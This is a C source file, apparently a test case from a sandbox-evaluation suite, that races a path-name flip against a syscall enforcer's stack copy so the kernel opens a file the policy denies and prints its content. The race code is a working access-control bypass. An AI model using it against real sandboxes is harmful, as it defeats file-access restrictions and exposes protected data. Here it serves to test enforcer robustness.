// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: an enforcer that makes the kernel read its own copy keeps that copy
 * where the target cannot write (catalogue A4).
 *
 *	opener			flipper			enforcer
 *	openat(name) --------------------------------->	reads name: permitted,
 *							copies it below the stack
 *							pointer, sets the register
 *				copy := denied
 *	kernel reads the copy <-----------------------	lets the call through
 *
 * The opener has a stack of its own. After a first, permitted open it looks
 * for copies of the name in it; the flipper then overwrites those for ever.
 * Where there is no copy (no enforcer, or a better one) the name itself is
 * flipped. Winning prints DATA and the content of the denied file.
 */
#include "race.h"

#include <pthread.h>

#define STACK_SIZE (512u << 10)
#define DEPTH (32u << 10)
#define COPIES_MAX 16

static struct flip flip;
static struct run run;
static char *stack;
static char *copies[COPIES_MAX];
static int copy_count;

/* Opens from far down the stack, so that nobody else's frame lies near the copy. */
static __attribute__((noinline)) int open_from_below(void)
{
	char room[DEPTH];
	int fd;

	__asm__ volatile("" : : "r"(room) : "memory");
	fd = raw_open(flip.buffer, O_RDONLY);
	__asm__ volatile("" : : "r"(room) : "memory");
	return fd;
}

static void find_copies(void)
{
	char *end = (char *)__builtin_frame_address(0) - DEPTH;
	size_t length = flip.length + 1;

	for (char *at = stack; at + length < end && copy_count < COPIES_MAX; at++)
		if (*at == flip.names[0][0] && !memcmp(at, flip.names[0], length))
			copies[copy_count++] = at;
	if (!copy_count)
		copies[copy_count++] = flip.buffer;
}

static void *flipper(void *unused)
{
	(void)unused;
	for (unsigned int turn = 1; !atomic_load(&flip.stop); turn++) {
		for (int i = 0; i < copy_count; i++)
			memcpy(copies[i], flip.names[turn & 1], flip.length);
		atomic_store(&flip.turns, turn);
		flip_pause();
	}
	return NULL;
}

static void *opener(void *unused)
{
	pthread_t thread;

	(void)unused;
	close(open_from_below());
	find_copies();
	race_begin(&run);
	if (pthread_create(&thread, NULL, flipper, NULL))
		broken("no flipping thread");
	widen_caller(&run);
	while (race_next(&run, &flip.turns))
		run_opened(&run, open_from_below());
	atomic_store(&flip.stop, true);
	pthread_join(thread, NULL);
	return NULL;
}

static void race(const char *first, const char *second)
{
	pthread_attr_t attributes;
	pthread_t thread;

	run_learn_decoy(&run);
	flip_init(&flip, first, second);
	stack = shared_memory(STACK_SIZE);
	pthread_attr_init(&attributes);
	if (pthread_attr_setstack(&attributes, stack, STACK_SIZE) ||
	    pthread_create(&thread, &attributes, opener, NULL))
		broken("no opening thread");
	pthread_join(thread, NULL);
}

int main(int argc, char **argv)
{
	run = run_begin(argc, argv);
	switch (run.mode) {
	case MODE_BENIGN:
		run.limit = BENIGN_ROUNDS;
		race(run.allowed, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		race(run.allowed, run.denied);
		break;
	}
	run_end(&run);
}
